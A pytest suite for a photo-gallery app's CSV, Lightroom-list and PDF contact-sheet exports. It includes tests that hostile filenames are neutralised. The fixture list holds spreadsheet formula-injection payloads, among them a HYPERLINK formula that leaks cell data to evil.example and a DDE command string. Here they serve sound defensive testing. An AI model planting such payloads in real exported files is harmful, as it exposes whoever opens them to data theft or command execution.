"""The export formats (galleries.formats): the selection CSV and the Lightroom
list checked cell by cell with hostile filenames, and the PDF contact sheet
read back with an independent reader (pypdf)."""

from __future__ import annotations

import csv
import io
import math
import time
import tracemalloc
import uuid
from typing import Any

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from PIL import Image, ImageFilter
from pypdf import PdfReader

from galleries import formats
from galleries import services as gallery_services
from galleries.formats import Scope
from galleries.models import Asset, AssetStatus
from galleries.storage import derivative_key, media_store
from studio import context
from studio import services as studio_services
from studio.errors import DomainError
from studio.models import Studio
from studio.tenancy import studio_scope
from tests import factories

SELECTION, GALLERY = Scope("selection"), Scope("gallery")
HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click").jpg',
    "+1.jpg",
    "-2.jpg",
    "@SUM(A1:A9).jpg",
    "\tleading tab.jpg",
    "\rleading cr.jpg",
    'say "cheese".jpg',
    "one, two.jpg",
    "line\nbreak.jpg",
    "Ωmega café 写真.jpg",
    "emoji 📷🎉.jpg",
]


@pytest.fixture
def acting():
    with context.acting_as(factories.TEST_ACTOR):
        yield


def _photo(studio: Studio, gallery: Any, name: str) -> Asset:
    """A real photo (the pipeline ran), then given ``name``: the pipeline
    wants a .jpg name for a JPEG, and RAW names are what a studio uploads."""
    asset = factories.ready_asset(studio, gallery)
    with studio_scope(studio):
        Asset.objects.filter(pk=asset.pk).update(original_filename=name)
        asset.refresh_from_db()
    return asset


def _visitor(studio: Studio, gallery: Any, name: str = "", email: str = "") -> Any:
    v = factories.visitor(studio, gallery)
    with studio_scope(studio):
        v.name, v.email = name, email
        v.save()
    return v


def _rate(studio: Studio, gallery: Any, visitor: Any, *pairs: tuple[Asset, int | None]) -> None:
    with context.acting_as(factories.TEST_ACTOR), studio_scope(studio):
        gallery_services.ratings_set(gallery=gallery, visitor=visitor, ratings=list(pairs))


def _csv(studio: Studio, gallery: Any, scope: Scope = SELECTION) -> tuple[bytes, list[list[str]], int]:
    out = io.BytesIO()
    with studio_scope(studio):
        rows = formats.write_selection_csv(gallery, out, scope=scope)
    raw = out.getvalue()
    parsed = list(csv.reader(io.StringIO(raw.decode("utf-8-sig"), newline="")))
    return raw, parsed, rows


def _column(parsed: list[list[str]], name: str) -> list[str]:
    index = parsed[0].index(name)
    return [row[index] for row in parsed[1:]]


def _escaped(name: str) -> str:
    return "'" + name if name[0] in "=+-@\t\r" else name


# --- scope -------------------------------------------------------------------------------------------


def test_folder_scope_follows_the_folders_own_order_once_per_photo(studio, acting):
    gallery = factories.gallery(studio)
    a, b, c, d = (_photo(studio, gallery, f"IMG_{n}.jpg") for n in range(1, 5))
    with studio_scope(studio):
        picks = gallery_services.folder_create(gallery=gallery, name="Picks")
        other = gallery_services.folder_create(gallery=gallery, name="Other")
        gallery_services.placements_add(folder=picks, assets=[c, a, d])
        gallery_services.placements_add(folder=other, assets=[a, b, c])  # in two folders: still once
        gallery_services.placements_reorder(folder=picks, assets=[d])  # d first, then c, a
        in_folder = list(formats.scope_assets(gallery, Scope("folder", picks.pk)))
        whole = list(formats.scope_assets(gallery, Scope("gallery")))
        listed = formats.lightroom_list(gallery, scope=Scope("folder", picks.pk))
    assert in_folder == [d, c, a]
    assert whole == [a, b, c, d]  # the studio's order
    assert listed == "IMG_4.jpg,IMG_3.jpg,IMG_1.jpg"
    _, parsed, rows = _csv(studio, gallery, Scope("folder", picks.pk))
    assert rows == 3
    assert _column(parsed, "filename") == ["IMG_4.jpg", "IMG_3.jpg", "IMG_1.jpg"]
    assert _column(parsed, "folders") == ["Picks", "Picks; Other", "Picks; Other"]


def test_a_folder_of_another_gallery_or_studio_or_none_is_a_validation_error(studio, other_studio, acting):
    gallery = factories.gallery(studio)
    elsewhere = factories.folder(studio, factories.gallery(studio))
    foreign = factories.folder(other_studio)
    for folder_id in (elsewhere.pk, foreign.pk, uuid.uuid4(), "not-a-uuid", None):
        with studio_scope(studio), pytest.raises(DomainError) as caught:
            formats.scope_assets(gallery, Scope("folder", folder_id))
        assert caught.value.code == "VALIDATION_ERROR"
        assert list(caught.value.fields) == ["folder"]
    with studio_scope(studio), pytest.raises(DomainError) as caught:
        formats.lightroom_list(gallery, scope=Scope("album"))
    assert caught.value.code == "VALIDATION_ERROR" and "scope" in caught.value.fields


def test_another_studios_scope_sees_nothing_of_the_gallery(studio, other_studio):
    gallery = factories.gallery(studio)
    _photo(studio, gallery, "IMG_1.jpg")
    out = io.BytesIO()
    with studio_scope(other_studio):
        assert formats.write_selection_csv(gallery, out, scope=Scope("gallery")) == 0
        assert formats.lightroom_list(gallery, scope=Scope("gallery")) == ""


def test_trashed_and_unready_photos_are_left_out(studio, acting):
    gallery = factories.gallery(studio)
    kept, trashed, failed = (_photo(studio, gallery, f"IMG_{n}.jpg") for n in range(1, 4))
    with studio_scope(studio):
        gallery_services.assets_trash(gallery=gallery, assets=[trashed])
        Asset.objects.filter(pk=failed.pk).update(status=AssetStatus.FAILED)
        assert list(formats.scope_assets(gallery, Scope("gallery"))) == [kept]


# --- selection CSV ------------------------------------------------------------------------------------


def test_csv_neutralises_formulas_and_survives_hostile_filenames(studio, acting):
    gallery = factories.gallery(studio)
    assets = [_photo(studio, gallery, name) for name in HOSTILE]
    jo = _visitor(studio, gallery, "Jo Client", "jo@example.com")
    anonymous = _visitor(studio, gallery)
    emailed = _visitor(studio, gallery, email="sam@example.com")
    evil = _visitor(studio, gallery, name="=cmd|'/C calc'!A0")
    _rate(studio, gallery, jo, *[(a, 5) for a in assets])
    _rate(studio, gallery, anonymous, (assets[0], 2), (assets[1], 3))
    _rate(studio, gallery, emailed, (assets[1], 4))
    _rate(studio, gallery, evil, (assets[2], 1))

    raw, parsed, rows = _csv(studio, gallery)

    assert raw.startswith(b"\xef\xbb\xbf")  # UTF-8 BOM: Excel reads UTF-8
    # Every record ends with CRLF; the only bare LF is the one inside the quoted filename.
    assert raw.count(b"\r\n") == len(parsed)
    assert raw.replace(b"\r\n", b"").count(b"\n") == 1
    assert rows == len(HOSTILE) == len(parsed) - 1
    assert parsed[0] == [
        "filename",
        "average stars",
        "stars: Jo Client (jo@example.com)",
        "stars: Anonymous visitor",
        "stars: sam@example.com",
        "stars: =cmd|'/C calc'!A0",  # inside a header that starts with "stars:": inert
        "folders",
        "chosen by",
        "finalised by",
        "finalised at (UTC)",
    ]
    assert _column(parsed, "filename") == [_escaped(name) for name in HOSTILE]
    assert _column(parsed, "filename")[:6] == [
        '\'=HYPERLINK("http://evil.example/?x="&A1,"click").jpg',
        "'+1.jpg",
        "'-2.jpg",
        "'@SUM(A1:A9).jpg",
        "'\tleading tab.jpg",
        "'\rleading cr.jpg",
    ]
    assert _column(parsed, "average stars")[:4] == ["3.5", "4", "3", "5"]
    assert _column(parsed, "stars: Jo Client (jo@example.com)") == ["5"] * len(HOSTILE)
    assert _column(parsed, "stars: Anonymous visitor")[:3] == ["2", "3", ""]
    assert _column(parsed, "stars: sam@example.com")[:3] == ["", "4", ""]
    assert _column(parsed, "chosen by")[:3] == [
        "Jo Client (jo@example.com); Anonymous visitor",
        "Jo Client (jo@example.com); Anonymous visitor; sam@example.com",
        "Jo Client (jo@example.com); =cmd|'/C calc'!A0",  # not at the cell's start: inert
    ]
    assert _column(parsed, "finalised at (UTC)") == [""] * len(HOSTILE)  # open selection
    # No cell of the whole file starts a formula.
    assert not [cell for row in parsed for cell in row if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]


def test_csv_cells_each_escaped(studio):
    assert [formats.csv_cell(v) for v in ("=1+1", "+1", "-1", "@x", "\tx", "\rx", "a=1", "", None, 4)] == [
        "'=1+1",
        "'+1",
        "'-1",
        "'@x",
        "'\tx",
        "'\rx",
        "a=1",
        "",
        "",
        "4",
    ]


def test_csv_of_a_finalised_selection_is_frozen_and_dated_in_studio_time(studio, acting):
    Studio.objects.filter(pk=studio.pk).update(timezone="Europe/Paris")
    studio.refresh_from_db()
    gallery = factories.gallery(studio)
    a, b, c = (_photo(studio, gallery, f"IMG_{n}.jpg") for n in range(1, 4))
    jo = _visitor(studio, gallery, "Jo", "jo@example.com")
    twin = _visitor(studio, gallery, "Jo", "jo@example.com")  # same label twice
    _rate(studio, gallery, jo, (a, 4), (b, 5))
    _rate(studio, gallery, twin, (a, 2))
    with studio_scope(studio):
        theirs = gallery_services.folder_create(gallery=gallery, name="Jo's picks", visitor=jo)
        gallery_services.placements_add(folder=theirs, assets=[b], visitor=jo)
        selection = gallery_services.selection_finalize(gallery=gallery, visitor=jo)
        # Staff file c into the client's folder after finalising: chosen now,
        # but not part of what the client finalised.
        gallery_services.placements_add(folder=theirs, assets=[c])
    _, parsed, rows = _csv(studio, gallery)
    when = selection.finalized_at.astimezone(formats.ZoneInfo("Europe/Paris")).strftime("%Y-%m-%d %H:%M:%S")
    assert rows == 2
    assert parsed[0][2:4] == ["stars: Jo (jo@example.com)", "stars: Jo (jo@example.com) (2)"]
    assert parsed[1:] == [
        [
            "IMG_1.jpg",
            "3",
            "4",
            "2",
            "",
            "Jo (jo@example.com); Jo (jo@example.com) (2)",
            selection.finalized_by_label,
            when,
        ],
        ["IMG_2.jpg", "5", "5", "", "Jo's picks", "Jo (jo@example.com)", selection.finalized_by_label, when],
    ]
    assert parsed[0][-1] == "finalised at (Europe/Paris)"
    # The whole gallery: the finalisation shows on the photos it froze only.
    _, whole, _ = _csv(studio, gallery, Scope("gallery"))
    assert _column(whole, "finalised at (Europe/Paris)") == [when, when, ""]
    # Reopened: the selection is what the clients chose so far, c included.
    with studio_scope(studio):
        gallery_services.selection_reopen(gallery=gallery, user=None)
    _, reopened, _ = _csv(studio, gallery)
    assert _column(reopened, "filename") == ["IMG_1.jpg", "IMG_2.jpg", "IMG_3.jpg"]
    assert _column(reopened, "finalised by") == ["", "", ""]


def test_csv_of_nothing_chosen_is_the_header_alone(studio):
    gallery = factories.gallery(studio)
    _photo(studio, gallery, "IMG_1.jpg")
    raw, parsed, rows = _csv(studio, gallery)
    assert rows == 0
    assert parsed == [["filename", "average stars", "folders", "chosen by", "finalised by", "finalised at (UTC)"]]


class _WriteOnly:
    """What an upload stream may offer: write, nothing else."""

    def __init__(self) -> None:
        self.parts: list[bytes] = []

    def write(self, data: bytes) -> int:
        self.parts.append(bytes(data))
        return len(data)


def test_csv_writes_to_any_binary_sink_and_leaves_it_open(studio):
    gallery = factories.gallery(studio)
    _photo(studio, gallery, "IMG_1.jpg")
    sink, buffer = _WriteOnly(), io.BytesIO()
    with studio_scope(studio):
        assert formats.write_selection_csv(gallery, sink, scope=GALLERY) == 1
        formats.write_selection_csv(gallery, buffer, scope=GALLERY)
    assert not buffer.closed
    assert b"".join(sink.parts) == buffer.getvalue()
    assert buffer.getvalue().startswith(b'\xef\xbb\xbf"filename","average stars"')


# --- Lightroom ----------------------------------------------------------------------------------------


def test_lightroom_lists_with_and_without_extensions_and_pairs_once(studio, acting):
    gallery = factories.gallery(studio)
    names = ["IMG_0001.CR3", "IMG_0001.JPG", "IMG_0002.NEF", "img_0002.jpg", "DSC_0003.jpg", "IMG_0001.CR3"]
    photos = [_photo(studio, gallery, name) for name in names]
    jo = _visitor(studio, gallery, "Jo")
    _rate(studio, gallery, jo, *[(p, 3) for p in photos])
    with studio_scope(studio):
        with_ext = formats.lightroom_list(gallery)
        bare = formats.lightroom_list(gallery, extensions=False)
        text = formats.lightroom_text(gallery)
    # Duplicates (case-insensitive, as Lightroom matches) once; no spaces after commas.
    assert with_ext == "IMG_0001.CR3,IMG_0001.JPG,IMG_0002.NEF,img_0002.jpg,DSC_0003.jpg"
    assert bare == "IMG_0001,IMG_0002,DSC_0003"
    assert text.splitlines()[3:8] == [
        "With extensions:",
        with_ext,
        "",
        "Without extensions (RAW+JPEG pairs once):",
        bare,
    ]
    assert "Text > Filename > Contains" in text.splitlines()[1]


def test_lightroom_terms_with_commas_spaces_and_operators_still_match_their_photo(studio, acting):
    gallery = factories.gallery(studio)
    jo = _visitor(studio, gallery, "Jo")
    photos = [_photo(studio, gallery, name) for name in HOSTILE + ["!not.jpg", "+plus+.jpg", ",,,", "IMG_9.jpg"]]
    _rate(studio, gallery, jo, *[(p, 3) for p in photos])
    with studio_scope(studio):
        terms = formats.lightroom_list(gallery).split(",")
        bare = formats.lightroom_list(gallery, extensions=False).split(",")
        text = formats.lightroom_text(gallery)
    assert terms == [
        '=HYPERLINK("http://evil.example/?x="&A1',  # the longest comma-free part
        "1.jpg",  # a leading "+" would mean "starts with"
        "-2.jpg",
        "@SUM(A1:A9).jpg",
        "tab.jpg",  # of equally long parts, the one with the extension
        "leading",
        '"cheese".jpg',
        "two.jpg",
        "break.jpg",
        "写真.jpg",
        "📷🎉.jpg",
        "not.jpg",  # a leading "!" would mean "does not contain"
        "plus+.jpg",
        "IMG_9.jpg",
    ]
    names = [*HOSTILE, "!not.jpg", "+plus+.jpg", "IMG_9.jpg"]
    for name, term in zip(names, terms, strict=True):
        assert term.casefold() in name.casefold(), (name, term)  # "Contains" still finds the photo
        assert "," not in term and not any(ch.isspace() for ch in term)
        assert not term.startswith(("!", "+")) and not term.endswith("+")
    assert len(terms) == len(HOSTILE) + 3  # ",,," left nothing usable: left out, and said so
    assert "IMG_9.jpg" in terms and "IMG_9" in bare
    assert "',,,' -> (left out)" in text
    assert "'one, two.jpg' -> two.jpg" in text


# --- PDF contact sheet --------------------------------------------------------------------------------


def _pdf(studio: Studio, gallery: Any, scope: Scope = GALLERY, **kwargs: Any) -> tuple[PdfReader, int]:
    out = io.BytesIO()
    with studio_scope(studio):
        pages = formats.write_contact_sheet(gallery, out, scope=scope, **kwargs)
    out.seek(0)
    return PdfReader(out), pages


def _texts(reader: PdfReader) -> list[str]:
    return [page.extract_text() for page in reader.pages]


def test_contact_sheet_pages_text_stars_and_page_numbers(studio, acting):
    gallery = factories.gallery(studio, client_name="Ana & Ben", event_date="2026-06-20")
    # One page and three photos: the unicode name first, in the studio's order.
    photos = [_photo(studio, gallery, "Ωmega café 写真 📷.jpg")]
    photos += [_photo(studio, gallery, f"IMG_{n:04d}.jpg") for n in range(2, formats.PER_PAGE + 4)]
    ana = _visitor(studio, gallery, "Ana")
    ben = _visitor(studio, gallery, "Ben")
    _rate(studio, gallery, ana, (photos[0], 5), (photos[1], 3))
    _rate(studio, gallery, ben, (photos[0], 4))
    with studio_scope(studio):
        gallery_services.placements_add(
            folder=gallery_services.folder_create(gallery=gallery, name="Album"), assets=[photos[0]]
        )
        total = formats.scope_assets(gallery, Scope("gallery")).count()
    assert total == formats.PER_PAGE + 3

    reader, pages = _pdf(studio, gallery)

    expected = 1 + math.ceil(total / formats.PER_PAGE)
    assert pages == len(reader.pages) == expected == formats.contact_sheet_pages(total)
    texts = _texts(reader)
    cover = texts[0]
    assert studio.name in cover and gallery.title in cover
    assert "Ana & Ben" in cover and "2026-06-20" in cover
    assert f"Photos {total}" in cover.replace("\n", " ")
    for number, text in enumerate(texts, start=1):
        assert f"page {number} of {expected}" in text
    grid = texts[1]
    assert "Ωmega café" in grid  # DejaVu draws Greek and accents; CJK and emoji become U+FFFD
    assert "4.5 avg" in grid and "Ana 5, Ben 4" in grid and "Album" in grid
    assert "IMG_0002.jpg" in grid and "not rated" in grid
    everything = "\n".join(texts)
    assert all(f"IMG_{n:04d}.jpg" in everything for n in range(2, formats.PER_PAGE + 4))
    # Every photo's thumbnail is an image on the grid pages.
    assert sum(len(page.images) for page in reader.pages[1:]) == total


def test_contact_sheet_draws_a_placeholder_for_missing_or_broken_thumbnails(studio, acting):
    gallery = factories.gallery(studio)
    fine, gone, never, broken = (_photo(studio, gallery, f"IMG_{n}.jpg") for n in range(1, 5))
    with studio_scope(studio):
        media_store().delete([gone.derivatives["thumb"]["key"]])
        Asset.objects.filter(pk=never.pk).update(derivatives={})
        media_store().put(broken.derivatives["thumb"]["key"], b"not a webp", "image/webp")
    reader, pages = _pdf(studio, gallery)
    assert pages == 2
    grid = _texts(reader)[1]
    assert grid.count("no preview") == 3
    assert all(f"IMG_{n}.jpg" in grid for n in range(1, 5))
    assert len(reader.pages[1].images) == 1


def test_contact_sheet_cover_has_the_logo_and_a_folder_or_selection_scope(studio, acting):
    png = io.BytesIO()
    Image.new("RGBA", (120, 60), (200, 40, 40, 128)).save(png, "PNG")
    studio_services.studio_update(
        studio=Studio.objects.get(pk=studio.pk),
        accent_color="#aa3300",
        logo=SimpleUploadedFile("logo.png", png.getvalue(), "image/png"),
    )
    studio.refresh_from_db()
    gallery = factories.gallery(studio)
    a, b, c = (_photo(studio, gallery, f"IMG_{n}.jpg") for n in range(1, 4))
    jo = _visitor(studio, gallery, "Jo")
    _rate(studio, gallery, jo, (b, 5))
    with studio_scope(studio):
        picks = gallery_services.folder_create(gallery=gallery, name="Picks")
        gallery_services.placements_add(folder=picks, assets=[c, a])
        gallery_services.selection_finalize(gallery=gallery, visitor=jo)

    reader, pages = _pdf(studio, gallery, Scope("folder", picks.pk))
    assert pages == 2 and len(reader.pages[0].images) == 1  # the logo
    grid = _texts(reader)[1]
    assert "Folder: Picks" in grid and grid.index("IMG_3.jpg") < grid.index("IMG_1.jpg")
    assert "IMG_2.jpg" not in grid

    reader, pages = _pdf(studio, gallery, Scope("selection"))
    texts = _texts(reader)
    assert pages == 2 and "Selection finalised" in texts[0] and "IMG_2.jpg" in texts[1]
    assert "IMG_1.jpg" not in texts[1]


def test_contact_sheet_of_nothing_is_the_cover(studio):
    reader, pages = _pdf(studio, factories.gallery(studio), Scope("selection"))
    assert pages == len(reader.pages) == 1
    assert "page 1 of 1" in _texts(reader)[0]


def test_contact_sheet_reports_progress_and_stops_when_cancelled(studio, acting):
    gallery = factories.gallery(studio)
    for n in range(3):
        _photo(studio, gallery, f"IMG_{n}.jpg")
    seen: list[tuple[int, int]] = []
    _pdf(studio, gallery, progress=lambda done, total: seen.append((done, total)))
    assert seen == [(1, 3), (2, 3), (3, 3)]

    out = io.BytesIO()
    asked = iter([False, True])
    with studio_scope(studio), pytest.raises(formats.ExportCancelled):
        formats.write_contact_sheet(gallery, out, cancelled=lambda: next(asked))
    assert out.getvalue() == b""  # nothing half-written


# --- memory ---------------------------------------------------------------------------------------------


def _many_photos(studio: Studio, gallery: Any, count: int) -> int:
    """``count`` ready photos with real 400 px WebP thumbnails, made directly
    (the pipeline would take minutes): distinct pictures, so nothing is
    de-duplicated. Returns the bytes all thumbnails take decoded."""
    import random

    rng = random.Random(7)
    # Texture, like a photo's: a flat gradient would compress to nothing and prove little.
    texture = Image.effect_noise((400, 300), 60).convert("RGB").filter(ImageFilter.GaussianBlur(1))
    decoded = 0
    with studio_scope(studio):
        for n in range(count):
            tint = Image.new("RGB", texture.size, (rng.randrange(256), rng.randrange(256), rng.randrange(256)))
            image = Image.blend(texture, tint, 0.4 + rng.random() / 5)
            data = io.BytesIO()
            image.save(data, "WEBP", quality=80)
            asset = Asset(
                studio=studio,
                gallery=gallery,
                original_filename=f"IMG_{n:04d}.jpg",
                storage_key=f"test/{uuid.uuid4()}.jpg",
                content_type="image/jpeg",
                size=1,
                status=AssetStatus.READY,
                sort_order=n,
            )
            key = derivative_key(asset, "thumb")
            media_store().put(key, data.getvalue(), "image/webp")
            asset.derivatives = {"thumb": {"key": key, "width": 400, "height": 300, "bytes": data.tell()}}
            asset.save()
            decoded += 400 * 300 * 3
    return decoded


def _measure(studio: Studio, gallery: Any) -> tuple[int, float, int]:
    out = io.BytesIO()
    tracemalloc.start()
    started = time.perf_counter()
    try:
        with studio_scope(studio):
            formats.write_contact_sheet(gallery, out)
        _, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    return peak, time.perf_counter() - started, len(out.getvalue())


def test_contact_sheet_memory_does_not_hold_the_thumbnails(studio):
    formats._fonts()  # registered once per process: not part of what is measured
    small, large = factories.gallery(studio), factories.gallery(studio)
    _many_photos(studio, small, 60)
    decoded = _many_photos(studio, large, 300)

    small_peak, _, _ = _measure(studio, small)
    peak, seconds, size = _measure(studio, large)
    per_photo = (peak - small_peak) / 240
    mib = 2**20
    print(f"\ncontact sheet, 300 photos: {seconds:.1f} s, peak {peak / mib:.1f} MiB, PDF {size / mib:.1f} MiB")
    print(f"each photo adds {per_photo / 1024:.0f} KiB to the peak; decoded, a thumbnail is 352 KiB")

    # Holding the 300 decoded thumbnails would take 103 MiB; the sheet stays far under.
    assert peak < decoded / 8
    # What each photo adds is its small JPEG in the PDF (reportlab assembles
    # the file in memory, then writes it), not a decoded 360 KB thumbnail.
    assert per_photo < 400 * 300 * 3 / 6, per_photo
